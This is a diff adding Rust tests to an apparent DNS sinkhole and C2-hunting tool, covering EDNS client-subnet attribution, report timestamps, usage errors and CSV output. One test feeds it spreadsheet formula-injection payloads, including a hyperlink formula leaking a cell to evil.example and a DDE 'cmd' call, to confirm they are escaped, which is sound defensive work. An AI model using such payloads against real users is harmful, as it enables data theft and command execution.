@@ -476,3 +476,307 @@ fn clients_behind_a_forwarding_router_are_told_apart_by_edns() {
     );
     assert_eq!(q[0]["client_mac"], "aa:00:00:00:00:51");
 }
+
+/// A router (listed in `edns_from`, with an ARP entry of its own) forwards the queries of two machines it
+/// knows nothing of, each with a full-length client subnet: they must stay two machines in the events, the
+/// query log, `report`, `hunt` and the alerts, never both become the router. A machine outside `edns_from`
+/// that sends a subnet is not believed and stays itself.
+#[test]
+fn machines_behind_a_router_stay_apart_by_a_full_length_client_subnet() {
+    const ROUTER_MAC: &str = "ee:ee:ee:00:00:09";
+    const OTHER_MAC: &str = "ee:ee:ee:00:00:0a";
+    let dir = tempdir("ecs-apart");
+    std::fs::write(
+        dir.join("arp"),
+        format!(
+            "{ARP_HEADER}{}{}",
+            arp_line("127.0.0.9", ROUTER_MAC),
+            arp_line("127.0.0.10", OTHER_MAC)
+        ),
+    )
+    .unwrap();
+    let alerts = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    // The sender is a low-priority thread: a generous wait, spent only when the test fails.
+    alerts.set_read_timeout(Some(PATIENCE)).unwrap();
+    let events = dir.join("events.log");
+    let queries = dir.join("queries.log");
+    let c = C2sink::start_in(
+        &dir,
+        C2,
+        &format!(
+            "[log]\nevents = \"{}\"\nqueries = \"{}\"\n[clients]\narp = \"arp\"\nndp = false\nedns_from = [\"127.0.0.9\"]\n\
+             [alerts]\nsyslog = \"udp://{}\"\n",
+            events.display(),
+            queries.display(),
+            alerts.local_addr().unwrap()
+        ),
+    );
+    let ecs = |last: u8| vec![(8u16, vec![0, 1, 32, 0, 10, 9, 9, last])];
+    let mut buf = [0u8; 1500];
+    for (from, id, last) in [
+        ("127.0.0.9", 1u16, 9u8),
+        ("127.0.0.9", 2, 10),
+        ("127.0.0.10", 3, 11),
+    ] {
+        let s = std::net::UdpSocket::bind((from, 0)).unwrap();
+        s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
+        s.send_to(&query_with_options(id, C2, &ecs(last)), c.addr())
+            .unwrap();
+        let n = s.recv(&mut buf).unwrap();
+        assert_eq!(u16::from_be_bytes([buf[0], buf[1]]), id);
+        assert_eq!(rcode_and_answers(&buf[..n]).0, 0);
+    }
+    let mut alerted = Vec::new();
+    for _ in 0..3 {
+        let n = alerts.recv(&mut buf).expect("one alert per machine: three");
+        let m = String::from_utf8_lossy(&buf[..n]).into_owned();
+        let body = &m[m.find(" alert - ").expect("MSGID alert") + 9..];
+        let a: serde_json::Value = serde_json::from_str(body).unwrap();
+        alerted.push((
+            a["client_mac"].as_str().map(String::from),
+            a["client_subnet"].as_str().map(String::from),
+            a["text"].as_str().unwrap_or_default().to_string(),
+        ));
+    }
+    c.stop();
+    alerted.sort();
+    assert_eq!(
+        alerted
+            .iter()
+            .map(|(m, s, _)| (m.as_deref(), s.as_deref()))
+            .collect::<Vec<_>>(),
+        [
+            (None, Some("10.9.9.10/32")),
+            (None, Some("10.9.9.9/32")),
+            (Some(OTHER_MAC), None)
+        ],
+        "{alerted:?}"
+    );
+    assert!(
+        alerted[1].2.contains("10.9.9.9 via 127.0.0.9"),
+        "{alerted:?}"
+    );
+
+    let e = json_lines(&events);
+    let who = |l: &serde_json::Value| {
+        (
+            l["client_ip"].as_str().unwrap_or("").to_string(),
+            l["client_mac"].as_str().map(String::from),
+            l["client_hostname"].as_str().map(String::from),
+            l["client_subnet"].as_str().map(String::from),
+        )
+    };
+    let want = [
+        ("127.0.0.9", None, Some("10.9.9.9/32")),
+        ("127.0.0.9", None, Some("10.9.9.10/32")),
+        ("127.0.0.10", Some(OTHER_MAC), None),
+    ]
+    .map(|(ip, mac, subnet)| {
+        (
+            ip.to_string(),
+            mac.map(String::from),
+            None,
+            subnet.map(String::from),
+        )
+    });
+    assert_eq!(e.iter().map(who).collect::<Vec<_>>(), want, "{e:?}");
+    let q = json_lines(&queries);
+    assert_eq!(
+        q.iter().map(who).collect::<Vec<_>>(),
+        want,
+        "the query log names them the same way: {q:?}"
+    );
+
+    let (code, out, err) = run(&["report", "--format", "json", events.to_str().unwrap()]);
+    assert_eq!(code, 0, "{err}");
+    let r: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let mut machines: Vec<(String, Vec<serde_json::Value>)> = r["clients"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| {
+            (
+                c["id"].as_str().unwrap().to_string(),
+                c["ips"].as_array().unwrap().clone(),
+            )
+        })
+        .collect();
+    machines.sort_by(|a, b| a.0.cmp(&b.0));
+    assert_eq!(
+        machines,
+        [
+            (
+                "10.9.9.10".to_string(),
+                vec![serde_json::json!("10.9.9.10")]
+            ),
+            ("10.9.9.9".to_string(), vec![serde_json::json!("10.9.9.9")]),
+            (OTHER_MAC.to_string(), vec![serde_json::json!("127.0.0.10")]),
+        ],
+        "{out}"
+    );
+    assert_eq!(r["infected"], 3, "{out}");
+
+    let list = dir.join("ioc.txt");
+    std::fs::write(&list, format!("{C2}\n")).unwrap();
+    let (code, out, err) = run(&[
+        "hunt",
+        "--format",
+        "json",
+        "--list",
+        list.to_str().unwrap(),
+        queries.to_str().unwrap(),
+        events.to_str().unwrap(),
+    ]);
+    assert_eq!(code, 0, "{err}");
+    let h: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let mut ids: Vec<(&str, u64)> = h["clients"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| (c["id"].as_str().unwrap(), c["hits"].as_u64().unwrap()))
+        .collect();
+    ids.sort();
+    assert_eq!(
+        ids,
+        [("10.9.9.10", 1), ("10.9.9.9", 1), (OTHER_MAC, 1)],
+        "{out}"
+    );
+    assert_eq!(h["hits"], 3, "{out}");
+}
+
+/// Splits one CSV line into its fields (quoted fields as RFC 4180 writes them).
+fn csv_fields(line: &str) -> Vec<String> {
+    let (mut out, mut cur, mut quoted, mut chars) =
+        (Vec::new(), String::new(), false, line.chars().peekable());
+    while let Some(ch) = chars.next() {
+        match (ch, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                cur.push('"');
+                chars.next();
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => out.push(std::mem::take(&mut cur)),
+            _ => cur.push(ch),
+        }
+    }
+    out.push(cur);
+    out
+}
+
+/// Query names (and DHCP hostnames) are the client's choice: in `report --format csv` none may start a field
+/// a spreadsheet reads as a formula.
+#[test]
+fn report_csv_cannot_carry_a_formula() {
+    let dir = tempdir("csv-formula");
+    std::fs::write(
+        dir.join("dnsmasq.leases"),
+        "4000000000 aa:00:00:00:00:03 127.0.0.3 @sum(1+1) *\n",
+    )
+    .unwrap();
+    let events = dir.join("events.log");
+    let c = C2sink::start_in(
+        &dir,
+        C2,
+        &format!(
+            "[log]\nevents = \"{}\"\n[clients]\narp = \"\"\nndp = false\n\
+             leases = [{{ format = \"dnsmasq\", path = \"dnsmasq.leases\" }}]\n",
+            events.display()
+        ),
+    );
+    let names = [
+        format!("=hyperlink(\"http://evil.example/\"&b2).{C2}"),
+        format!("+cmd|'/c calc'!a0.{C2}"),
+        format!("-2+3.{C2}"),
+        format!("@sum(1).{C2}"),
+    ];
+    for n in &names {
+        c.udp("127.0.0.3", n, 1);
+    }
+    c.stop();
+    let (code, out, err) = run(&["report", "--format", "csv", events.to_str().unwrap()]);
+    assert_eq!(code, 0, "{err}");
+    let rows: Vec<Vec<String>> = out.lines().skip(1).map(csv_fields).collect();
+    assert_eq!(rows.len(), names.len(), "{out}");
+    for row in &rows {
+        for f in row {
+            assert!(
+                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula in {f:?}: {out}"
+            );
+        }
+        assert_eq!(row[1], "'@sum(1+1)", "the hostname is kept, as text: {out}");
+    }
+    let mut qnames: Vec<&str> = rows.iter().map(|r| r[4].as_str()).collect();
+    qnames.sort();
+    let mut want: Vec<String> = names
+        .iter()
+        .map(|n| format!("'{}", n.replace(' ', "\\032")))
+        .collect();
+    want.sort();
+    assert_eq!(qnames, want, "{out}");
+}
+
+/// `report` shows each time to the millisecond the event has, whatever that millisecond (an f64 of
+/// seconds cut to milliseconds turned `.287` into `.286`).
+#[test]
+fn report_times_keep_the_events_milliseconds() {
+    let dir = tempdir("report-ms");
+    let mut text = String::new();
+    let mut want = Vec::new();
+    for ms in 0..1000 {
+        let ts = format!("2026-11-29T18:45:25.{ms:03}Z");
+        text.push_str(&format!(
+            "{{\"ts\":\"{ts}\",\"kind\":\"block\",\"client_ip\":\"127.0.0.2\",\"client_port\":5353,\"client_mac\":null,\"client_hostname\":null,\"protocol\":\"udp\",\"qname\":\"n{ms:03}.{C2}\",\"qtype\":\"A\",\"list\":\"3cx\",\"rule\":\"{C2}\",\"action\":\"null\"}}\n"
+        ));
+        want.push((format!("n{ms:03}.{C2}"), ts));
+    }
+    let events = dir.write("events.log", &text);
+    let (code, out, err) = run(&["report", "--format", "json", events.to_str().unwrap()]);
+    assert_eq!(code, 0, "{err}");
+    let r: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let mut got: Vec<(String, String)> = r["names"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|n| {
+            assert_eq!(n["first_seen"], n["last_seen"]);
+            (
+                n["qname"].as_str().unwrap().to_string(),
+                n["first_seen"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect();
+    got.sort();
+    let wrong: Vec<_> = got.iter().zip(&want).filter(|(g, w)| g != w).collect();
+    assert!(
+        wrong.is_empty(),
+        "{} wrong, e.g. {:?}",
+        wrong.len(),
+        wrong.first()
+    );
+    assert_eq!(r["clients"][0]["first_seen"], "2026-11-29T18:45:25.000Z");
+    assert_eq!(r["clients"][0]["last_seen"], "2026-11-29T18:45:25.999Z");
+}
+
+/// A `--burst` that is no length of time is a usage error, not a silent 0; an indicator list with no
+/// names is a usage error naming the file, not "nothing found" (exit 1), which would read as all clear.
+#[test]
+fn report_and_hunt_reject_a_bad_burst_and_an_empty_list() {
+    let dir = tempdir("usage");
+    let events = dir.write("events.log", "");
+    let e = events.to_str().unwrap();
+    for bad in ["-1", "nan", "inf", "soon"] {
+        let (code, _, err) = run(&["report", &format!("--burst={bad}"), e]);
+        assert_eq!(code, 2, "--burst {bad}: {err}");
+        assert!(err.contains("--burst"), "{err}");
+    }
+    let (code, _, err) = run(&["report", "--burst", "0.5", e]);
+    assert_eq!(code, 0, "{err}");
+    let empty = dir.write("empty.txt", "# nothing yet\n\n");
+    let (code, _, err) = run(&["hunt", "--list", empty.to_str().unwrap(), e]);
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains(empty.to_str().unwrap()) && err.contains("no domain indicators"),
+        "{err}"
+    );
+}
